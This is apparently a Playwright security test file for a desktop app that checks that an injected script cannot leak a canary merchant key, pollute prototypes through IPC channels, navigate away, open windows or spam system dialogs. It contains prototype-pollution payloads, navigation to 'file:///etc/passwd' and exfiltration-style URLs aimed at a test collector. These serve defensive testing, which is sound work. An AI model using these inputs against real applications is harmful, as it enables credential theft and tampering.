import type { Page } from 'playwright-core'
import { requestChannels } from '#shared/contract/calls.ts'
import { recordFigure } from '#testing/proof.ts'
import { merchantKeys } from '../support/canary-values.ts'
import { attempt, type Attempt, type Outcome } from '../support/attacks/attempt.ts'
import {
  callsOutsideTheContract,
  channelsNotAsked,
  channelsThatTakeAnything,
  everythingInThePage,
  everythingMainAnswers,
} from '../support/attacks/channels.ts'
import { Collector } from '../support/attacks/collector.ts'
import { frameAttempts } from '../support/attacks/frames.ts'
import { networkAttempts, silentAttempts } from '../support/attacks/network.ts'
import { permissionAttempts } from '../support/attacks/permissions.ts'
import { scriptAttempts } from '../support/attacks/scripts.ts'
import { expect, test } from '../support/fixtures.ts'

/*
 * What a script injected into the page would try (docs/security.md). Each attempt is listed with what came of it; one
 * that succeeds fails its test, and so does one that was stopped by something else than what ought to stop it.
 */
const canaryKey = merchantKeys.attack
// The application must refuse permissions, printing and browser pages; they must not just be missing.
// Chromium names on the console what it stops.
test.use({ practice: { key: canaryKey }, wholeBrowser: true, expectedComplaints: /./ })
// Most attempts share an application, so that one can use what an earlier one opened.
test.describe.configure({ mode: 'default' })

/** Makes all attempts of one part and lists them. @returns those that were not stopped */
async function makeAll(
  page: Page,
  part: string,
  attempts: readonly Attempt[],
  address: string,
): Promise<readonly string[]> {
  const outcomes: Outcome[] = []
  for (const [index, one] of attempts.entries()) {
    outcomes.push(await attempt(page, one, address.replace('INDEX', String(index))))
  }
  const open = outcomes.filter(({ isStopped }) => !isStopped)
  for (const { name, isStopped, seen } of outcomes)
    console.log(`${isStopped ? 'stopped' : 'OPEN'}: ${name}: ${seen}`)
  recordFigure({ proof: 'attacks', tried: { part, attempts: outcomes.length }, seen: { open: open.length } })
  return open.map(({ name, seen }) => `${name}: ${seen}`)
}

let collector: Collector
test.beforeEach(async () => {
  collector = await Collector.start()
})
test.afterEach(() => collector.close())

/** Whether nothing at all arrived outside. */
async function expectNothingArrived(): Promise<void> {
  expect(await collector.proveItCounts()).toEqual({ before: [], counts: true })
}

test('the key is in no answer of main, in no announcement and nowhere in the page', async ({ connected }) => {
  const { page } = await connected.page()
  await page.evaluate(() => {
    const heard: unknown[] = []
    Reflect.set(window, 'heard', heard)
    for (const channel of ['app:status-changed', 'engine:changed', 'outbox:changed'] as const) {
      window.bridge.on(channel, (news) => heard.push(news))
    }
  })
  const answers = await everythingMainAnswers(page)
  const heard = await page.evaluate(() => JSON.stringify(Reflect.get(window, 'heard')))
  const all = [JSON.stringify(answers), heard, await everythingInThePage(page)].join('\n')
  expect(Object.keys(answers)).toHaveLength(requestChannels.length - channelsNotAsked.size)
  expect(answers['outbox:accept']).toContain('"ok":true')
  expect(heard).toContain('undelivered')
  const bytes = Buffer.from(canaryKey)
  for (const form of [canaryKey, bytes.toString('base64').slice(0, -4), bytes.toString('hex')]) {
    expect(all).not.toContain(form)
  }
  expect(all).not.toContain(encodeURIComponent(`Bearer ${canaryKey}`))
})

test(
  'no channel takes what it was not made for, and main lives on',
  { tag: '@longer' },
  async ({ sharedApp: app }) => {
    const page = await app.window()
    const pid = await app.pid()
    expect(await channelsThatTakeAnything(page)).toEqual([])
    expect(await callsOutsideTheContract(page)).toEqual([])
    expect(await page.evaluate(async () => (await window.bridge.request('app:status')).ok)).toBe(true)
    expect(await app.pid()).toBe(pid)
  },
)

test('nothing that is passed to main changes what other objects of main inherit', async ({
  sharedApp: app,
}) => {
  const page = await app.window()
  const seen = await page.evaluate(async () => {
    const request: unknown = Reflect.get(window.bridge, 'request')
    if (typeof request !== 'function') throw new Error('There is no bridge.')
    const ask = async (channel: string, argument: unknown): Promise<string> =>
      JSON.stringify(await Reflect.apply(request, window.bridge, [channel, argument]))
    const inherited = { theme: 'dark', paused: true, key: 'stolen', ok: true, configured: true, page: 1 }
    const inner = JSON.stringify(inherited)
    const polluting = [
      `{"__proto__":${inner}}`,
      `{"constructor":{"prototype":${inner}}}`,
      `{"statusNames":{"__proto__":${inner}}}`,
      `{"statusNames":{"constructor":"x"},"branchName":{"__proto__":${inner}}}`,
      `[{"__proto__":${inner}}]`,
    ]
    const before = await ask('app:status', undefined)
    for (const text of polluting) {
      for (const channel of ['settings:change', 'engine:pause', 'drafts:save', 'pharmacies:page']) {
        await ask(channel, JSON.parse(text))
      }
    }
    return {
      before,
      after: await ask('app:status', undefined),
      paused: await ask('engine:pause', {}),
      page: await ask('pharmacies:page', {}),
      key: await ask('key:set', {}),
    }
  })
  expect(seen.after).toBe(seen.before)
  for (const refused of [seen.paused, seen.page, seen.key]) expect(refused).toContain('invalid-input')
})

test('nothing leaves the page', async ({ sharedApp: app }) => {
  const page = await app.window()
  const address = `${collector.url}/INDEX`
  expect(await makeAll(page, 'network', networkAttempts, address)).toEqual([])
  expect(
    await makeAll(page, 'silent', silentAttempts, `${collector.url}/INDEX#${collector.packetPort}`),
  ).toEqual([])
  await expectNothingArrived()
})

test('no text and no file of another runs as a program in the page', async ({ sharedApp: app }) => {
  const page = await app.window()
  expect(await makeAll(page, 'scripts', scriptAttempts, `${collector.url}/INDEX.js`)).toEqual([])
  expect(await page.evaluate(() => Reflect.get(window, 'stolen') as unknown)).toBeUndefined()
  await expectNothingArrived()
})

test('there is no frame to hide in', async ({ sharedApp: app }) => {
  const page = await app.window()
  expect(await makeAll(page, 'frames', frameAttempts, `${collector.url}/INDEX`)).toEqual([])
  await expectNothingArrived()
})

test('nothing of the computer is given to the page', async ({ sharedApp: app }) => {
  const page = await app.window()
  expect(await makeAll(page, 'permissions', permissionAttempts, collector.url)).toEqual([])
})

test('the page stays what it is, wherever it is sent', async ({ app }) => {
  const page = await app.window()
  const home = page.url()
  await page.evaluate(() => Reflect.set(window, 'marked', true))
  const targets = [
    `${collector.url}/away`,
    'https://collector.example/away',
    'data:text/html,<h1>away</h1>',
    'file:///etc/passwd',
    'mailto:desk@collector.example',
    'tel:+2340000000',
    'smb://collector.example/share',
    'ms-settings:privacy',
    'view-source:about:blank',
    'blob:https://collector.example/0190',
  ]
  for (const target of targets) {
    for (const how of ['assign', 'replace', 'link', 'refresh', 'history'] as const) {
      await page.evaluate(leave, { target, how })
      const isStill = await page.evaluate(() => Reflect.get(window, 'marked') === true)
      expect(`${how} ${target}: ${isStill ? 'stayed' : 'left'}, ${page.url()}`).toBe(
        `${how} ${target}: stayed, ${home}`,
      )
    }
  }
  expect(await app.dialog()).toBeNull()
  expect(await app.openedLinks()).toEqual([])
  recordFigure({
    proof: 'attacks',
    tried: { part: 'navigation', attempts: targets.length * 5 },
    seen: { open: 0 },
  })
  await expectNothingArrived()
})

/** Runs in the page: goes there, one way or another, and comes back once Chromium has decided. */
async function leave({ target, how }: { target: string; how: string }): Promise<void> {
  try {
    if (how === 'assign') location.assign(target)
    else if (how === 'replace') location.replace(target)
    else if (how === 'history') history.pushState(null, '', target)
    else if (how === 'link') {
      const link = Object.assign(document.createElement('a'), { href: target })
      document.body.append(link)
      link.click()
      link.remove()
    } else {
      const meta = Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0;url=${target}`,
      })
      document.head.append(meta)
      meta.remove()
    }
  } catch {
    // An address that Chromium itself does not let a page go to.
  }
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0)))
}

test('no window opens, and a link is asked about before the system’s browser gets it', async ({ app }) => {
  const page = await app.window()
  const open = async (address: string): Promise<void> => {
    await page.evaluate((url) => void window.open(url, '_blank', 'popup'), address)
  }
  for (const address of [
    `${collector.url}/window`,
    'about:blank',
    'data:text/html,x',
    'file:///etc/passwd',
    'mailto:desk@collector.example',
    '/settings',
  ]) {
    await open(address)
  }
  expect(await app.dialog()).toBeNull()

  const asked = async (address: string, answer: 'Open in browser' | 'Cancel'): Promise<string> => {
    // A user gesture expires quickly: on a busy machine the click is repeated, as a person would.
    await expect(async () => {
      await page.keyboard.press('Shift')
      await open(address)
      await expect.poll(async () => (await app.dialog())?.detail ?? '', { timeout: 3_000 }).toContain(address)
    }).toPass({ timeout: 20_000 })
    const question = await app.dialog()
    await app.answerDialog(answer)
    await expect.poll(async () => await app.dialog()).toBeNull()
    return question?.buttons.join(', ') ?? ''
  }
  const buttons = 'Open in browser, Cancel'
  expect(await asked('https://files.example/stolen?name=Ada', 'Cancel')).toBe(buttons)
  expect(await asked('https://192.168.1.1/admin', 'Cancel')).toBe(buttons)
  expect(await app.openedLinks()).toEqual([])
  expect(await asked('https://files.example/photo.jpg', 'Open in browser')).toBe(buttons)
  await expect.poll(() => app.openedLinks()).toEqual(['https://files.example/photo.jpg'])
  await expectNothingArrived()
})

/** Milliseconds after the first dialog at which main may open one more though no one pressed anything. */
const endsOfPausesMs = [5_000, 15_000, 35_000, 75_000, 135_000]

test(
  'a script piles no dialogs of the system up, and opens none again that a person closed',
  { tag: '@longer' },
  async ({ connected }) => {
    const { page } = await connected.page()
    const { app } = connected
    const askForAll = async (): Promise<unknown> =>
      await page.evaluate(async () => {
        window.open('https://files.example/photo.jpg')
        return await Promise.all([
          window.bridge.request('backup:choose'),
          window.bridge.request('paper:save-pdf', { paper: 'pharmacy-slip' }),
          window.bridge.request('day:save-csv', { day: '2026-11-20' }),
        ])
      })
    const nothing = [
      { ok: true, value: { type: 'cancelled' } },
      { ok: true, value: { savedAs: null } },
      { ok: false, error: { type: 'not-possible-now' } },
    ]
    /** Asks, and closes what opens until all is answered. @returns how many dialogs that were. */
    const closedAfterAsking = async (): Promise<number> => {
      const state = { isAnswered: false, closed: 0 }
      const asked = askForAll().finally(() => (state.isAnswered = true))
      while (!state.isAnswered) {
        if ((await app.dialog()) === null) continue
        state.closed += 1
        await app.answerDialog('Cancel')
      }
      expect(await asked).toEqual(nothing)
      return state.closed
    }
    await page.keyboard.press('Shift')
    const startMs = performance.now()
    let open = (await closedAfterAsking()) - 1
    expect(open).toBeGreaterThanOrEqual(0)
    for (let times = 0; times < 10; times += 1) open += await closedAfterAsking()
    // A machine so busy that this takes seconds sees what someone without a key or a mouse would: one more after a pause.
    const tookMs = performance.now() - startMs
    recordFigure({ proof: 'attacks', tried: { part: 'dialogs', attempts: 40 }, seen: { open } })
    expect(open).toBeLessThanOrEqual(endsOfPausesMs.filter((endMs) => endMs <= tookMs).length)
  },
)
